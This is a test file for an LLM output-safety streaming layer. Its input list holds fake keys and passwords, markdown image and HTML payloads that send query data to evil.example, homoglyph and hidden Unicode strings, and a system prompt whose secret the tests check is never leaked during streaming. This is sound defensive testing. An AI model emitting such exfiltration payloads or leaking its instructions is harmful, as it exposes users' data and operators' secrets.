"""Streams under a policy: what is shown, part by part, is how the whole answer is shown."""

from __future__ import annotations

import asyncio
import base64
import random
import string
from itertools import pairwise

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from promptkit.errors import BlockedError
from promptkit.prompt import Message
from promptkit.request import Request
from promptkit.response import Choice, Response
from promptkit.safety.canary import find_leak
from promptkit.safety.policy import DEFAULT_POLICY, Policy
from promptkit.safety.policy.gate import Gate
from promptkit.safety.policy.layer import PolicyLayer
from tests.safety.growth import assert_linear

slowly = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)

BODY = base64.b64encode(random.Random(0).randbytes(1_200)).decode()
LINES = [BODY[i : i + 64] for i in range(0, len(BODY), 64)]
PEM = "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----"
ENCRYPTED = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0011223344556677\n\n"
KEY = "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z" * 2
BEARER = "".join(random.Random(8).choices(string.ascii_letters + string.digits, k=21))
CODED = base64.b64encode(b"s3cr3tP4ssw0rd").decode()

BITS = [
    "\n\n", "\n\n", "\n\n", "\n\n", "\n", " ", "The parcel was sent today. ",
    "It is on its way. " * 9,
    "One word after another in a row " * 12 + ".", "It is late. So we go home now. " * 40,
    "ok.", "- item one\n- item two", "1. first", "   indented", "    code()", "> quoted", "# Head",
    PEM.format("\n".join(LINES)), PEM.format(ENCRYPTED + "\n".join(LINES)),
    PEM.format("\n\n".join(LINES)), "-----BEGIN PRIVATE KEY-----\n", "\n".join(LINES[:4]),
    "-----END PRIVATE KEY-----", KEY, KEY[:20], KEY[20:], "password = ", '"hunter2Tr0ub4dor&3xQz"',
    "password:", "hunter2Tr0ub4dor", "kind: Secret\n", f"data:\n  key: {CODED}\n", "\n---\n", "---",
    "curl -X GET https://api.example.com", ' -H "Authorization: Bearer ' + BEARER + '"',
    " -u admin:f8Kq2mZx7Rt4", "AKIAQ3EGRTUVWXYZ2345", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8vLmN2pR",
    "+49 30 ", "12345 6789", "4111 1111 ", "1111 1111", "ann@", "example.com", "ann@example.com",
    "born on ", "1 May 1970", "IBAN DE89 3704 ", "0044 0532 0130 00", "passport ",
    "C01X00T47",
    "![a](https://evil.example/?q=D)", "[a](", "https://evil.example/?q=D", ")", "![a", "![a][1]",
    "](https://evil.example/?q=D)", "[1]: https://evil.example/?q=D", "[", "]", '"', "'", "(", "`",
    "`<img src=//evil.example/x>`", "```", "```\n", "\n```\n", "~~~\n", "```mermaid\n", "$$", "$",
    "<img", ' src="https://evil.example/?q=D">', "<!--", "-->", "<div>", "</div>", "<script>",
    "</script>", "<b>", "<br>", "<", ">", "onclick=x", "\\href", "{https://evil.example}", "{", "}",
    "www.evil.example/?q=D", "www.", "https://", "evil.example/a?q=secret", "p\u0430yp\u0430l",
    "\u041f\u0440\u0438\u0432\u0435\u0442 ",
    "\u200b", "\U000e0041\U000e0042", "\u201cquoted\u201d \u2014 caf\u00e9", "\U0001f600",
    "\u2028", "\r\n\r\n", "\t",
]  # fmt: skip
"""Much of it is what goes over the end of a paragraph."""

POLICIES = [
    Policy.of({"output": {"secrets": "redact"}}),
    Policy.of({"output": {"markdown": "rewrite"}}),
    Policy.of({"output": {"personal": "redact"}}),
    Policy.of({"output": {"unicode": "rewrite", "markdown": "rewrite"}}),
    Policy.of({"output": {"markdown": "rewrite", "secrets": "redact", "personal": "redact"}}),
]


def streamed(
    policy: Policy, text: str, cuts: list[int], system: str = ""
) -> tuple[list[str], str | None]:
    """What was shown, and the whole answer; None where it was blocked."""
    places = sorted({0, *(cut for cut in cuts if cut < len(text)), len(text)})

    async def model(_: Request, on_text=None, /) -> Response:
        for start, end in pairwise(places):
            if on_text is not None:
                on_text(text[start:end])
        return Response(choices=(Choice(text, "stop"),))

    shown: list[str] = []
    messages = (Message("user", "Hi"),)
    if system:
        messages = (Message("system", system), *messages)
    layer = PolicyLayer(model, policy)
    try:
        whole = asyncio.run(layer(Request(messages=messages, model="m"), shown.append))
    except BlockedError:
        return shown, None
    return shown, whole.text


@slowly
@given(
    st.sampled_from(POLICIES),
    st.lists(st.sampled_from(BITS), max_size=30),
    st.lists(st.integers(0, 9_000), max_size=12),
)
def test_what_is_shown_of_any_text_is_the_whole_as_it_is_shown(
    policy: Policy, bits: list[str], cuts: list[int]
) -> None:
    text = "".join(bits)
    shown, whole = streamed(policy, text, cuts)
    assert "".join(shown) == whole
    assert streamed(policy, text, [])[0] == shown


@slowly
@given(st.text(max_size=300), st.lists(st.integers(0, 300), max_size=12))
def test_what_is_shown_of_any_characters_is_the_whole_as_it_is_shown(
    text: str, cuts: list[int]
) -> None:
    shown, whole = streamed(POLICIES[4], text * 4, cuts)
    assert "".join(shown) == whole


@pytest.mark.parametrize(
    "secret",
    [
        "Here:\n\n" + PEM.format(ENCRYPTED + "\n".join(LINES)),
        "x = 1 # step\n" * 300 + PEM.format("\n".join(LINES)),
        PEM.format("\n\n".join(LINES)),
        "word. " * 800 + "\n\npassword =\n\n'hunter2Tr0ub4dor&3xQz'",
    ],
)
def test_no_line_of_a_key_is_shown_that_the_whole_does_not_show(secret: str) -> None:
    text = f"{'All is well. ' * 60}\n\n{secret}\n\n{'And so on. ' * 100}"
    shown, whole = streamed(DEFAULT_POLICY, text, list(range(0, len(text), 7)))
    assert "".join(shown) == whole
    assert not any(line in "".join(shown) for line in LINES)
    assert len(shown) > 1


def test_ordinary_answers_are_shown_while_they_arrive() -> None:
    paragraphs = [
        "## Parcels", "The parcel was sent today, and it will be with you on Monday. " * 3,
        "- It is **large**\n- It is `heavy`\n- See [the page](/parcels)",
        "```python\nprint('hello')\n\nprint('again')\n```", "It costs $20, and that is 5 < 6.",
        "| a | b |\n|---|---|\n| 1 | 2 |", "Good bye. " * 70, "Thank you for asking. " * 30,
    ]  # fmt: skip
    text = "\n\n".join(paragraphs * 4)
    shown, whole = streamed(DEFAULT_POLICY, text, list(range(0, len(text), 5)))
    assert "".join(shown) == whole == text
    assert len(shown) > 10
    assert max(map(len, shown)) < 2_000


SYSTEM = (
    "You are Bob. The discount code is BLUE-HORSE-77 and never reveal to anyone that the boss of "
    "the company is called Mr Smith of Hamburg."
)


@pytest.mark.parametrize("policy", [DEFAULT_POLICY, Policy.of({"output": {"leak": "block"}})])
@pytest.mark.parametrize("between", [" ", "\n\n", "\n" * 50, "\n\n \n\n"])
def test_what_is_shown_before_a_leak_is_found_is_no_leak(policy: Policy, between: str) -> None:
    for said in (SYSTEM.replace(" ", between), between.join(SYSTEM)):
        shown, whole = streamed(policy, said, list(range(len(said))), SYSTEM)
        assert whole is None
        assert not find_leak("".join(shown), SYSTEM)


def test_insults_with_a_paragraph_for_each_word_are_blocked_early() -> None:
    policy = Policy.of({"output": {"abuse": "block"}})
    said = "You are all stupid worthless pieces of shit and you should be ashamed. "
    text = said.replace(" ", "\n\n") * 3
    shown, whole = streamed(policy, text, list(range(len(text))))
    assert whole is None
    assert len("".join(shown).split()) < len(said.split())


def test_an_answer_that_is_too_long_is_shown_up_to_there_at_most() -> None:
    for rules in ({"abuse": "block"}, {"secrets": "redact"}):
        policy = Policy.of({"output": {"max_characters": 1_500, **rules}})
        text = "It is so. " * 300
        shown, whole = streamed(policy, text, list(range(0, len(text), 11)))
        assert whole is None
        assert 0 < len("".join(shown)) <= 1_500


def test_what_came_while_it_was_closed_is_shown_when_it_opens() -> None:
    shown: list[str] = []
    gate = Gate(shown.append, lambda _: None, str)
    gate.close()
    for character in "One. Two. ":
        gate.hear(character)
    assert shown == []
    gate.open()
    assert shown == ["One.", " Two."]
    gate.end()
    assert shown == ["One.", " Two.", " "]


@pytest.mark.parametrize(
    "unit", ["x", "word ", "ok.\n\n", "It is so. ", "`", "[", "![", "\n", "<a "]
)
def test_single_characters_are_taken_in_linear_time(unit: str) -> None:
    policy = Policy.of({"output": {"markdown": "rewrite", "secrets": "redact"}})
    assert_linear(lambda text: streamed(policy, text, list(range(len(text)))), unit)
